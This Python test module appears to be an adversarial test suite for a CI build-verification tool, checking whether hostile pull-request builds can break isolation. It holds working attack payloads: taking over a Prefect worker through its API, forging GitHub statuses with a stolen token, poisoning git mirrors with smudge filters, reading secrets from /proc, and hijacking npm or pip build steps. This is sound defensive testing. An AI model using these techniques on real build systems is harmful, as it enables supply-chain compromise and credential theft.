"""What is tried, whole: each deed tells whether it was done. Where builds run, the scene says."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import uuid
from textwrap import dedent

from prefect.client.orchestration import get_client
from prefect.client.schemas.filters import FlowFilter, FlowFilterName

from tests.adversary.whole.scene import (
    LOOT,
    Scene,
    node_function,
    processes_with,
    python_function,
)
from tests.flows.test_refused_runs import POOL, attacked_worker
from tests.flows.test_worker import idle, until
from tests.support.templates import queue, services
from tiercel.domain.review.statuses import StatusState
from tiercel.flows.verify import verify_pull_request

_EVIL = "evil = 1"
_CHANGED = {"inbox/template.json": queue(DelaySeconds=5)}
_SECONDS = 30
_SECONDS_FOR_ANOTHER = 5
"""So long two builds of one commit wait for each other: they begin together, if not at once."""
_ASK = """
import json, os, urllib.request
def ask(method, address, body, token=""):
    headers = {"Content-Type": "application/json", "Authorization": f"Bearer {token}"}
    asked = urllib.request.Request(address, json.dumps(body).encode(), headers, method=method)
    return json.load(urllib.request.urlopen(asked, timeout=5))
"""


def takeover(scene: Scene) -> bool:
    """Two steps to Prod's worker: a build finds Prefect's address and starts a run of its own."""
    script = _ASK + dedent(f"""
        api = os.environ["PREFECT_API_URL"]
        named = {{"deployments": {{"name": {{"any_": [{POOL!r}]}}}}}}
        (found,) = ask("POST", f"{{api}}/deployments/filter", named)
        body = {{
            "state": {{"type": "SCHEDULED"}},
            "job_variables": {{"command": {f"touch {scene.deed}"!r}}},
        }}
        ask("POST", f"{{api}}/deployments/{{found['id']}}/create_flow_run", body)
    """)
    described = services(inbox='build = ["/usr/bin/python3", "evil.py"]\n')
    files = {"tiercel.toml": described, "inbox/evil.py": script} | _CHANGED
    number, commit = scene.place.opened("feature/evil", files)

    async def play() -> None:
        async with attacked_worker() as (worker, _):
            with scene.worker():
                await verify_pull_request(scene.place.repository.name, number, commit)
            await worker.sync_with_backend()
            await worker.get_and_submit_flow_runs()
            await until(lambda: idle(worker))

    asyncio.run(play())
    return scene.deed.exists()


def loopback(scene: Scene) -> bool:
    """A build speaks to Prefect's server on the worker's loopback."""
    name = f"evil-{uuid.uuid4()}"
    with scene.worker():
        api = os.environ["PREFECT_API_URL"]
    scene.verify(f"{_ASK}\nask('POST', '{api}/flows/', {{'name': {name!r}}})", _CHANGED)

    async def is_there() -> bool:
        async with get_client() as client:
            named = FlowFilter(name=FlowFilterName(any_=[name]))
            return bool(await client.read_flows(flow_filter=named))

    return asyncio.run(is_there())


def poisoned_mirror(scene: Scene) -> bool:
    """A pull request's build leaves a filter in the mirror, for the next honest commit."""
    scene.publish(scene.merge(python_function()))
    scene.verify(
        dedent(f"""
            import glob, os
            for mirror in glob.glob("{scene.cache}/**/*.git", recursive=True):
                program = os.path.join(mirror, "run")
                open(program, "w").write("#!/bin/sh\\nsed s/honest/evil/\\n")
                os.chmod(program, 0o755)
                attributes = os.path.join(mirror, "attributes")
                open(attributes, "w").write("*.py filter=x\\n")
                open(os.path.join(mirror, "config"), "w").write(
                    "[core]\\nrepositoryformatversion = 0\\nbare = true\\n"
                    f"attributesFile = {{attributes}}\\n[filter \\"x\\"]\\nsmudge = {{program}}\\n"
                )
        """),
        {"inbox/README.md": "Read this."},
    )
    # A service that is built is checked out, and only what is checked out is filtered.
    built = {"tiercel.toml": services(inbox='build = ["true"]\n')}
    honest = scene.merge(built | python_function(), "feature/honest")
    return _EVIL in scene.packaged(scene.publish(honest)["inbox"])


def sibling(scene: Scene) -> bool:
    """One service's build changes what another one of the same commit is packaged from."""
    script = f"""
import glob, os, time
for _ in range({_SECONDS_FOR_ANOTHER} * 50):
    for file in glob.glob("{scene.folder}/tmp/tiercel-build-*/root/source/inbox/started"):
        open(os.path.join(os.path.dirname(file), "src/app.py"), "w").write("{_EVIL}\\n")
        raise SystemExit
    time.sleep(0.02)
"""
    slow = f"touch started; for _ in $(seq {_SECONDS_FOR_ANOTHER * 20}); do sleep 0.05; "
    slow += f"grep -q '{_EVIL}' src/app.py && break; done; true"
    described = services(
        evil='build = ["/usr/bin/python3", "evil.py"]\n',
        inbox=f"build = {json.dumps(['sh', '-c', slow])}\n",
    )
    files = {"tiercel.toml": described, "evil/template.json": queue(), "evil/evil.py": script}
    published = scene.publish(scene.merge(files | python_function()))
    return _EVIL in scene.packaged(published["inbox"])


def forged_status(scene: Scene) -> bool:
    """A build says in Tiercel's name that another commit was verified."""
    other = scene.place.pushed_anew("feature/unseen", {"README.md": "Never verified."})
    path = f"repos/{scene.place.repository.name}/statuses/{other}"
    scene.verify(
        _ASK + f'address = os.environ["GITHUB_API_URL"] + "/{path}"\n'
        'token = os.environ["GITHUB_TOKEN"]\n'
        'ask("POST", address, {"state": "success", "context": "tiercel/preprod"}, token)\n',
        _CHANGED,
    )
    return scene.place.statuses(other).get("tiercel/preprod") == "success"


def environment(scene: Scene) -> bool:
    """A build succeeds because it finds the worker's variables."""
    return _succeeds(scene, 'import os\nassert os.environ["GITHUB_TOKEN"]\n')


def processes(scene: Scene) -> bool:
    """A build succeeds because it reads what a process of the worker was started with."""
    secret = f"{LOOT}-{uuid.uuid4()}"
    script = f"""
import glob
found = b""
for file in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        found += open(file, "rb").read()
    except OSError:
        pass
assert b"{secret}" in found
"""
    command = [sys.executable, "-I", "-c", f"import time; time.sleep({_SECONDS})", secret]
    with subprocess.Popen(command) as victim:
        try:
            return _succeeds(scene, script)
        finally:
            victim.kill()


def left_over(scene: Scene) -> bool:
    """A build leaves a process behind that is there when the verdict is given."""
    mark = f"{_SECONDS}.{uuid.uuid4().int % 10**9}"
    script = f"""
import os, subprocess
os.environ.pop("TMPDIR", "")
silent = {{one: subprocess.DEVNULL for one in ("stdin", "stdout", "stderr")}}
subprocess.Popen(["sleep", "{mark}"], start_new_session=True, **silent)
"""
    scene.verify(script, _CHANGED)
    found = processes_with(mark)
    for pid in found:
        os.kill(pid, 9)
    return bool(found)


def npm_settings(scene: Scene) -> bool:
    """The repository tells npm which program is git."""
    package = {"name": "x", "version": "1.0.0", "dependencies": {"a": "git+file:///nowhere"}}
    program = f"#!/bin/sh\ntouch {scene.deed} 2> /dev/null\necho {LOOT} >&2\nexit 1\n"
    files = {
        "package.json": json.dumps(package),
        ".npmrc": "git=./evil.sh\n",
        "evil.sh": program,
    }
    for name in files:
        path = scene.place.team.work_tree / "inbox/src" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.touch(0o755)
        path.chmod(0o755)
    ended = scene.verify("", node_function(**files))
    return scene.deed.exists() or "./evil.sh" in ended.details


def local_package(scene: Scene) -> bool:
    """requirements.txt names a package of the repository, which is built when it is installed."""
    evil = f"from pathlib import Path\nPath({str(scene.deed)!r}).touch()\n"
    project = """
[build-system]
requires = []
build-backend = "evil"
backend-path = ["."]
[project]
name = "tea"
version = "1.0"
"""
    files = {
        "requirements.txt": "./local\n",
        "local/pyproject.toml": project,
        "local/evil.py": evil,
    }
    scene.verify("", python_function(**files))
    return scene.deed.exists()


def linked_cache(scene: Scene) -> bool:
    """A repository has a link for a folder to which its build writes."""
    scene.cache.mkdir(exist_ok=True)
    tree = scene.place.team.work_tree / "inbox"
    tree.mkdir(exist_ok=True)
    (tree / "node_modules").symlink_to(scene.cache)
    scene.verify("open('node_modules/index.js', 'w').write('evil')", _CHANGED)
    return (scene.cache / "index.js").exists()


def _succeeds(scene: Scene, script: str) -> bool:
    return scene.verify(script, _CHANGED).state is StatusState.SUCCESS
